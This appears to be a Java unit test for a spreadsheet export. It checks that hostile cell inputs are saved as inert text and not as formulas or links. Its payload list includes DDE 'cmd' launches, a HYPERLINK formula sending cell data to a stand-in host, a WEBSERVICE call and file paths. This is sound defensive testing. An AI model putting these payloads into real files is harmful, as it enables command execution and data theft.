package fangfan.service.search;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.List;
import java.util.stream.Stream;
import org.apache.poi.poifs.crypt.temp.SXSSFWorkbookWithCustomZipEntrySource;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.streaming.SXSSFWorkbook;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** P15: whatever stands in a cell is read there again as text, and computes nothing. */
class InertTextTest {

    /** What spreadsheets, or those who wrote them, have stumbled over. */
    static Stream<String> hostile() {
        return Stream.of(
                "=1+1",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://elsewhere/?\"&A1,\"click\")",
                "=WEBSERVICE(\"http://elsewhere\")",
                "=DDE(\"cmd\";\"/C calc\";\"x\")",
                "=@SUM(1,1)",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "+1",
                "+cmd|' /C calc'!A0",
                "-1",
                "-2+3+cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\r\n=1+1",
                " =1+1",
                "\u00a0=1+1",
                "＝1+1",
                "\ufeff=1+1",
                "'=1+1",
                "\"=1+1\"",
                ";=1+1",
                ",=1+1",
                "%0A=1+1",
                "_x003D_1+1",
                "_x0041__x000D_",
                "_x005F_x0041_",
                "http://elsewhere/",
                "\\\\elsewhere\\share",
                "file:///etc/passwd",
                "mailto:a@elsewhere",
                "{=1+1}",
                "500116101201",
                "0001",
                "1E5",
                "2023-1",
                "3/4",
                "TRUE",
                "#REF!",
                "<script>alert(1)</script>",
                "<f>1+1</f>",
                "]]></t></is></c><c><f>1+1</f></c>",
                "&#61;1+1",
                "&lt;",
                "\u202e=1+1",
                "a\u202eb\u2066c\u2069",
                "e\u0301 \ud83d\ude00 \ud842\udfb7",
                "  blanks  ",
                "",
                "a\tb\nc\rd");
    }

    @ParameterizedTest(name = "{index}")
    @MethodSource("hostile")
    void isReadAgainAsItWasWritten(String text) throws IOException {
        XSSFCell cell = written(text);
        assertThat(cell.getStringCellValue()).isEqualTo(text);
    }

    @ParameterizedTest(name = "{index}")
    @MethodSource("hostile")
    void isTextAndNothingElse(String text) throws IOException {
        XSSFCell cell = written(text);
        assertThat(cell.getCellType()).isIn(CellType.STRING);
        assertThat(cell.getCTCell().isSetF()).isFalse();
        assertThat(cell.getHyperlink()).isNull();
        assertThat(cell.getCellStyle().getDataFormatString()).isEqualTo("@");
        assertThat(cell.getCellStyle().getQuotePrefixed())
                .isEqualTo(!text.isEmpty() && "=+-@\t\r\n".indexOf(text.charAt(0)) >= 0);
    }

    @Test
    void whatXmlCannotHoldIsSeenToBeMissing() throws IOException {
        assertThat(written("a\u0000b\u001bc\ud800d\udc00e\uffffg").getStringCellValue())
                .isEqualTo("a\ufffdb\ufffdc\ufffdd\ufffde\ufffdg");
    }

    @Test
    void aCellIsFilledToItsLimitAndSaysWhenThereWasMore() throws IOException {
        String most = "=" + "1".repeat(32_766);
        assertThat(written(most).getStringCellValue()).isEqualTo(most);
        assertThat(written(most + "1").getStringCellValue()).isEqualTo("=" + "1".repeat(32_765) + "…");
        assertThat(written("1".repeat(32_765) + "\ud83d\ude00\ud83d\ude00").getStringCellValue())
                .isEqualTo("1".repeat(32_765) + "…");
    }

    /** A cell as it is after the workbook was saved and opened again. */
    private static XSSFCell written(String text) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (SXSSFWorkbook workbook = new SXSSFWorkbookWithCustomZipEntrySource()) {
            new InertRows(workbook, workbook.createSheet("a")).append(List.of(text));
            workbook.write(bytes);
        }
        XSSFWorkbook read = new XSSFWorkbook(new ByteArrayInputStream(bytes.toByteArray()));
        return read.getSheetAt(0).getRow(0).getCell(0);
    }
}
